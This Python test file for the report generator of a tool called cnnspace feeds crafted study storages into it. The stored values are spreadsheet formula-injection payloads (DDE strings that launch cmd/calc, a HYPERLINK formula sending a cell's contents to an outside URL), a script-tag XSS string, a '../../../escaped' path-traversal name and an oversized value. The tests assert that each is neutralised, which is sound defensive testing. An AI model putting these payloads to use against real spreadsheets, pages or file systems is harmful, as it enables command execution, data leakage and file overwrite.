"""A study storage from elsewhere, written into report.html and trials.csv: its text (errors,
axis values, worker names, the study's name) stays text in a browser and in a spreadsheet."""
from __future__ import annotations

import csv
import json

import optuna
import pytest
from _explore_studies import write_study
from optuna.trial import TrialState, create_trial

from cnnspace.cli import main
from cnnspace.explore import load_results, load_study_file, open_storage
from cnnspace.explore._journal import WORKER_ATTR
from cnnspace.explore._records import STUDY_ATTR
from cnnspace.report import write_report
from cnnspace.space import SpaceError

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"details")'
SCRIPT = "<script>alert(1)</script>"


def crafted_storage(folder, name: str = "tiny") -> None:
    """A study whose one failed trial stores text a spreadsheet or browser would run."""
    study_file = load_study_file(write_study(folder, name=name))
    storage = open_storage(folder / "study.journal", heartbeat=None)
    study = optuna.create_study(study_name=name, storage=storage,
                                directions=study_file.directions)
    study.set_user_attr(STUDY_ATTR, json.loads(json.dumps(study_file.to_dict())))
    study.add_trial(create_trial(state=TrialState.FAIL, user_attrs={
        "outcome": "failed", "point": {"sr": 0.25}, "point_id": "@SUM(1+1)*cmd|' /C calc'!A0",
        "error": FORMULA + SCRIPT, WORKER_ATTR: "+cmd|' /C calc'!A0"}))


def test_trials_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path):
    crafted_storage(tmp_path)
    assert main(["report", str(tmp_path)]) == 0
    with (tmp_path / "trials.csv").open(newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["error"] == "'" + FORMULA + SCRIPT
    assert row["point_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["worker"] == "'+cmd|' /C calc'!A0"
    assert row["outcome"] == "failed" and row["sr"] == "0.25"


def test_report_html_shows_stored_markup_as_text(tmp_path):
    crafted_storage(tmp_path)
    assert main(["report", str(tmp_path)]) == 0
    html = (tmp_path / "report.html").read_text()
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html



def trained_storage(folder, axis: str, values: list) -> None:
    """A study over ``axis`` with one trained trial per value, as a storage from elsewhere may
    hold it: neither the axis nor the values checked."""
    study_file = load_study_file(write_study(folder, name="tiny"))
    config = json.loads(json.dumps(study_file.to_dict()))
    config["space"]["axes"] = {axis: [0.25, 0.5]}
    storage = open_storage(folder / "study.journal", heartbeat=None)
    study = optuna.create_study(study_name="tiny", storage=storage,
                                directions=study_file.directions)
    study.set_user_attr(STUDY_ATTR, config)
    for i, value in enumerate(values):
        study.add_trial(create_trial(
            state=TrialState.COMPLETE, values=[0.5 + i / 10, 1.0 + i],
            user_attrs={"outcome": "trained", "point": {axis: value}, "point_id": f"p{i}",
                        "results": {"top1": 0.5 + i / 10, "size_mib": 1.0 + i}}))


def test_axis_names_of_a_crafted_storage_cannot_write_plots_outside_the_report_folder(tmp_path):
    # write_report drew the sweep of an axis named '../../../escaped' to
    # plots/sweep_../../../escaped.png, outside the report's folder, and only then checked the
    # space (`cnnspace report` checks it first, the Python API did not)
    trained_storage(tmp_path, "../../../escaped", [0.25, 0.5])
    out = tmp_path / "deep" / "out"
    with pytest.raises(SpaceError, match=r"firenet has no setting '\.\./\.\./\.\./escaped'"):
        write_report(load_results(str(tmp_path / "study.journal")), out)
    assert not list(tmp_path.rglob("escaped*"))
    assert not out.exists()


def test_a_long_stored_value_is_cut_in_the_plots_and_whole_in_the_table(tmp_path):
    # a 200,000-character value made the parallel coordinates 1.4 million pixels wide: 5.5 GB
    # and 90 s for a 200 KB storage (here 50,000: 357,000 pixels)
    value = "x" * 50_000
    trained_storage(tmp_path, "sr", [value, 0.5])
    write_report(load_results(str(tmp_path / "study.journal")), tmp_path)
    png = (tmp_path / "plots" / "parallel.png").read_bytes()
    width = int.from_bytes(png[16:20], "big")  # the PNG header's width field
    assert width < 5_000
    assert value in (tmp_path / "report.html").read_text()
